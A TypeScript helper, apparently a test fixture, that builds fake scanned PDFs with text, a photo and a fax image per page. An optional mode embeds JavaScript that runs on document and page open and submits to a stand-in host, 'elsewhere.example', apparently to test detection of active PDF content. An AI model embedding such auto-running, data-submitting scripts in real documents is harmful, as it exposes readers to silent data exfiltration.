import { PDFDocument, PDFHexString, PDFName, StandardFonts } from 'pdf-lib'
import sharp from 'sharp'

/** Eight by eight black points as a fax writes them: one black line, and seven like the one before. */
function toFax(): Uint8Array {
  const bits = `001${'00110101'}${'000101'}${'11'.repeat(7)}${'000000000001'.repeat(2)}`
  const bytes = bits.padEnd(Math.ceil(bits.length / 8) * 8, '0').match(/.{8}/g) ?? []
  return Uint8Array.from(bytes, (byte) => Number.parseInt(byte, 2))
}

/**
 * A PDF as somebody sends it who scanned something: each page has a line of text above, a red photo in the middle and a black fax below.
 *
 * @param pages so many.
 * @param isActive with a script that runs when it is opened, and one on each page.
 */
export async function makeScan(pages: number, { isActive = false } = {}): Promise<Uint8Array> {
  const document = await PDFDocument.create()
  const font = await document.embedFont(StandardFonts.Helvetica)
  const photo = await document.embedJpg(
    await sharp({ create: { width: 64, height: 64, channels: 3, background: '#d00' } })
      .jpeg()
      .toBuffer(),
  )
  const { context } = document
  const fax = context.stream(toFax(), {
    ...{ Type: 'XObject', Subtype: 'Image', Width: 8, Height: 8, ColorSpace: 'DeviceGray', BitsPerComponent: 1 },
    ...{ Filter: 'CCITTFaxDecode', DecodeParms: { K: -1, Columns: 8, Rows: 8 } },
  })
  const faxRef = context.register(fax)
  const script = context.obj({
    S: 'JavaScript',
    JS: PDFHexString.fromText("app.alert('ran'); this.submitForm('https://elsewhere.example/')"),
  })
  for (let number = 1; number <= pages; number++) {
    const page = document.addPage([300, 300])
    page.drawText(`Page ${number}`, { x: 20, y: 250, size: 40, font })
    page.drawImage(photo, { x: 100, y: 120, width: 100, height: 100 })
    page.node.setXObject(PDFName.of('Fax'), faxRef)
    const paint = context.register(context.stream('q 100 0 0 100 100 0 cm /Fax Do Q'))
    page.node.addContentStream(paint)
    if (isActive) page.node.set(PDFName.of('AA'), context.obj({ O: script }))
  }
  if (isActive) document.catalog.set(PDFName.of('OpenAction'), script)
  return document.save()
}
